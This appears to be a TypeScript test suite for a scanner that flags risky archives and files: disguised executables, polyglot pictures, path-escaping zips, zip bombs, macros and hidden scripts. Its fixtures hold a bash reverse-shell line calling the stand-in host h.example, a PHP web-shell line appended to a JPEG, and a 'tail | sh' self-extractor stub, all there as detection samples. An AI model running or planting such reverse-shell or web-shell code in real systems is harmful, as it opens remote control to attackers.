import { expect, test } from "bun:test";
import { gzipSync } from "node:zlib";
import { createArchiveHygieneScanner } from "./archive-hygiene.ts";
import { createBehaviourScanner } from "./behaviour.ts";
import { withNestedFiles } from "./nested-files.ts";
import { PACKED } from "./packed.fixture.ts";
import { briefly, scanWith, targetOf, zipOf } from "./target.fixture.ts";

const scanner = createArchiveHygieneScanner();
const { signal } = new AbortController();
const found = async (files: Record<string, string | Uint8Array>) =>
  briefly(await scanWith(scanner, await withNestedFiles(targetOf(files), signal)));
const text = (content: string) => new TextEncoder().encode(content);
const ELF = Buffer.concat([Buffer.from("\x7fELF\x02\x01\x01"), Buffer.alloc(600)]);
const plainZip = zipOf([{ name: "a.txt", bytes: text("hello") }]);

function tarOf(name: string, content: string): Uint8Array {
  const header = Buffer.alloc(512);
  header.write(name, 0);
  header.write(content.length.toString(8).padStart(11, "0"), 124);
  header.write("0", 156);
  header.write("ustar", 257);
  const body = Buffer.alloc(Math.ceil(content.length / 512) * 512);
  body.write(content);
  return Buffer.concat([header, body, Buffer.alloc(1024)]);
}

test.each<[string, Record<string, string | Uint8Array>, string[]]>([
  ["documents", { "SKILL.md": "# Hi", "a.json": "{}" }, []],
  ["a zip", { "a.zip": plainZip }, []],
  ["a program", { "bin/tool": ELF }, ["executable medium bin/tool"]],
  ["a program under a picture's name", { "logo.png": ELF }, ["disguised-executable critical logo.png"]],
  [
    "a Windows program",
    {
      "x.dat": Buffer.concat([Buffer.from("MZ"), Buffer.alloc(58), Buffer.from([64, 0, 0, 0]), Buffer.from("PE\0\0")]),
    },
    ["executable medium x.dat"],
  ],
  [
    "an encrypted zip",
    { "a.zip": zipOf([{ name: "a", bytes: text("x"), encrypted: true }]) },
    ["encrypted high a.zip"],
  ],
  ["a zip under a document's name", { "a.md": plainZip }, ["disguised-archive high a.md"]],
  ["a 7z", { "a.7z": Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4, 1, 1]) }, ["unreadable-archive high a.7z"]],
  [
    "a picture that is a zip",
    { "a.png": Buffer.concat([Buffer.from("\x89PNG\r\n\x1a\n", "latin1"), Buffer.alloc(60), plainZip]) },
    ["polyglot high a.png"],
  ],
  ["a zip that climbs out", { "a.zip": zipOf([{ name: "../../x", bytes: text("x") }]) }, ["escaping-path high a.zip"]],
  [
    "a zip with a program in it",
    { "a.zip": zipOf([{ name: "run.exe", bytes: ELF }]) },
    ["program-in-archive medium a.zip", "executable medium a.zip!/run.exe"],
  ],
  ["a zip cut off", { "a.zip": Buffer.from(plainZip).subarray(0, 40) }, ["damaged-zip high a.zip"]],
])("%s", async (_name, files, expected) => {
  expect(await found(files)).toEqual(expected);
});

test.each<[string, Record<string, Uint8Array>, string]>([
  [
    "zip",
    { "a.zip": zipOf([{ name: "s/run.sh", bytes: text("bash -i >& /dev/tcp/h.example/1 0>&1") }]) },
    "a.zip!/s/run.sh",
  ],
  ["tar.gz", { "a.tgz": gzipSync(tarOf("run.sh", "bash -i >& /dev/tcp/h.example/1 0>&1")) }, "a.tgz!/run.sh"],
  [
    "zip in zip",
    {
      "a.zip": zipOf([
        { name: "b.zip", bytes: zipOf([{ name: "c", bytes: text("bash -i >& /dev/tcp/h.example/1 0>&1") }]) },
      ]),
    },
    "a.zip!/b.zip!/c",
  ],
])("what hides in a %s is scanned", async (_name, files, path) => {
  const target = await withNestedFiles(targetOf(files), signal);
  expect(briefly(await scanWith(createBehaviourScanner(), target))).toContain(`reverse-shell critical ${path}:1`);
});

test("archives deeper than is scanned are reported", async () => {
  let zip = plainZip;
  for (let i = 0; i < 3; i++) zip = zipOf([{ name: "in.zip", bytes: zip }]);
  expect(await found({ "a.zip": zip })).toContain("deeply-nested high a.zip!/in.zip!/in.zip");
});

test("a bomb is cut off at the bound", async () => {
  const bomb = gzipSync(Buffer.alloc(200 * 1024 * 1024), { level: 9 });
  const target = await withNestedFiles(targetOf({ "a.gz": bomb }), signal);
  expect(target.files.reduce((sum, file) => sum + file.size, 0)).toBeLessThan(50 * 1024 * 1024);
});

const SVG = '<svg xmlns="http://www.w3.org/2000/svg">';
const bytes = (content: string) => Buffer.from(content, "latin1");
const chunk = (type: string, data = "") => {
  const head = Buffer.alloc(4);
  head.writeUInt32BE(data.length);
  return Buffer.concat([head, bytes(`${type}${data}\0\0\0\0`)]);
};
const PNG = Buffer.concat([bytes("\x89PNG\r\n\x1a\n"), chunk("IHDR", "\0".repeat(13)), chunk("IEND")]);
const GIF = bytes("GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;");
const JPEG = bytes("\xff\xd8\xff\xe0\0\x04JF\xff\xda\0\x04\0\0\x12\xff\0\x34\xff\xd9");
const behind = (picture: Uint8Array, rest: string | Uint8Array) =>
  Buffer.concat([picture, typeof rest === "string" ? bytes(rest) : rest]);

test.each<[string, Record<string, string | Uint8Array>, string[]]>([
  ["pictures", { "a.png": PNG, "b.gif": GIF, "c.jpg": JPEG, "d.svg": `${SVG}<path d="M0 0"/></svg>` }, []],
  ["a camera's two pictures", { "a.jpg": behind(JPEG, JPEG) }, []],
  ["a program behind a picture", { "a.png": behind(PNG, ELF) }, ["polyglot high a.png"]],
  [
    "a script behind a picture",
    { "a.gif": behind(GIF, "<script src=x></script>") },
    ["script-in-picture high a.gif", "polyglot high a.gif"],
  ],
  [
    "a picture whose comment is a program",
    { "a.gif": bytes("GIF89a/*\0\0\0\0\0*/=1;alert(1)") },
    ["script-in-picture high a.gif"],
  ],
  [
    "PHP in a picture",
    { "a.jpg": behind(JPEG.subarray(0, 6), "<?php system($_GET[0]); ?>") },
    ["script-in-picture high a.jpg"],
  ],
  ["much behind a picture", { "a.png": behind(PNG, "\x07".repeat(5000)) }, ["trailing-data low a.png"]],
  ["a script under a picture's name", { "a.png": "#!/bin/sh\necho hi\n" }, ["mismatch high a.png"]],
  ["a JPEG under a PNG's name", { "a.png": JPEG }, []],
  ["a pointer of Git LFS", { "a.png": "version https://git-lfs.github.com/spec/v1\noid sha256:00\n" }, []],
  ["a drawing with a script", { "a.svg": `${SVG}<script>x()</script></svg>` }, ["active-document medium a.svg"]],
  ["a PDF", { "a.pdf": "%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\n%%EOF" }, []],
  [
    "a PDF that runs a script, in other letters",
    { "a.pdf": "%PDF-1.7\n1 0 obj <</OpenAction <</S /J#61vaScript /JS (app.alert\\(1\\))>>>> endobj\n%%EOF" },
    ["active-document high a.pdf"],
  ],
  [
    "a document with macros",
    { "a.docm": zipOf([{ name: "word/vbaProject.bin", bytes: text("x") }]) },
    ["unexpected-archive low a.docm", "office-macros high a.docm"],
  ],
  [
    "a self-extractor",
    { "setup.sh": behind(bytes("#!/bin/sh\ntail -n +3 $0 | sh\n"), "\x1f\x8b\x08\0\0\0") },
    ["self-extractor high setup.sh"],
  ],
  ["an encrypted file", { "a.bin": "Salted__abcdefgh0123456789" }, ["encrypted high a.bin"]],
  ["two extensions", { "report.pdf.exe": "x", "page.html.js": "x" }, ["double-extension high report.pdf.exe"]],
  ["a turned name", { "a\u202egpj.sh": "echo" }, ["disguised-name high a\u202egpj.sh"]],
  ["compiled Python alone", { "a.pyc": bytes("\xcb\x0d\x0d\x0a\0\0\0\0") }, ["compiled-python high a.pyc"]],
  [
    "compiled Python beside its source",
    { "x/a.py": "1", "x/__pycache__/a.cpython-312.pyc": bytes("\xcb\x0d\x0d\x0a\0\0\0\0") },
    ["compiled-python low x/__pycache__/a.cpython-312.pyc"],
  ],
  [
    "what cannot be unpacked",
    { "a.gz": bytes(`\x1f\x8b\x08\0${"\xee".repeat(40)}`) },
    ["unreadable-archive medium a.gz"],
  ],
])("formats: %s", async (_name, files, expected) => {
  expect(await found(files)).toEqual(expected);
});

test.each(Object.entries(PACKED))("what hides in %s is scanned", async (type, packed) => {
  const target = await withNestedFiles(targetOf({ [`run.sh.${type}`]: packed }), signal);
  expect(briefly(await scanWith(createBehaviourScanner(), target))).toContain(
    `reverse-shell critical run.sh.${type}!/run.sh:1`,
  );
});

test("a bomb, a member too large and one member too many are reported", async () => {
  const zeros = gzipSync(Buffer.alloc(40 * 1024 * 1024), { level: 9 });
  expect(await found({ "a.gz": zeros })).toEqual(["bomb high a.gz!/a"]);
  const script = Buffer.alloc(9 * 1024 * 1024, "echo 1234567890\n");
  const members = [
    { name: "a.sh", bytes: script },
    { name: "a.csv", bytes: script },
  ];
  expect(await found({ "a.zip": zipOf(members) })).toEqual([
    "not-fully-scanned high a.zip!/a.sh",
    "not-fully-scanned low a.zip!/a.csv",
  ]);
  const many = Array.from({ length: 2001 }, (_, i) => ({ name: `f${i}`, bytes: text("x") }));
  expect(await found({ "a.zip": zipOf(many) })).toEqual(["not-fully-scanned high a.zip"]);
});

test("two members of one name are both scanned", async () => {
  const twice = zipOf([
    { name: "run.sh", bytes: text("echo hi") },
    { name: "run.sh", bytes: text("bash -i >& /dev/tcp/h.example/1 0>&1") },
  ]);
  const target = await withNestedFiles(targetOf({ "a.zip": twice }), signal);
  expect(briefly(await scanWith(createBehaviourScanner(), target))).toContain(
    "reverse-shell critical a.zip!/run.sh#2:1",
  );
});

test("headers that overlap cost no more than the archive is long, and what is not read because of them is said", async () => {
  const header = Buffer.alloc(30);
  header.write("PK\x03\x04", "latin1");
  header.writeUInt32LE(0x7fffffff, 18);
  header.writeUInt16LE(0xffff, 26);
  const inner = Buffer.from(zipOf([{ name: "a.txt", bytes: text("hello") }])).subarray(0, 30);
  // Stored members, each of which claims all that follows.
  const stored = Buffer.from(inner);
  stored.writeUInt32LE(0x7fffffff, 18);
  const bytes = Buffer.concat([...Array<Buffer>(2000).fill(stored), ...Array<Buffer>(2000).fill(header)]);
  let read = 0;
  const target = targetOf({ "a.zip": bytes });
  const counted = {
    ...target,
    open: async (...[file, range]: Parameters<typeof target.open>) => {
      read += (range?.end ?? bytes.length) - (range?.start ?? 0);
      return target.open(file, range);
    },
  };
  const opened = await withNestedFiles(counted, signal);
  expect(read).toBeLessThan(8 * bytes.length);
  expect(briefly(await scanWith(scanner, opened))).toContain("not-fully-scanned high a.zip");
});
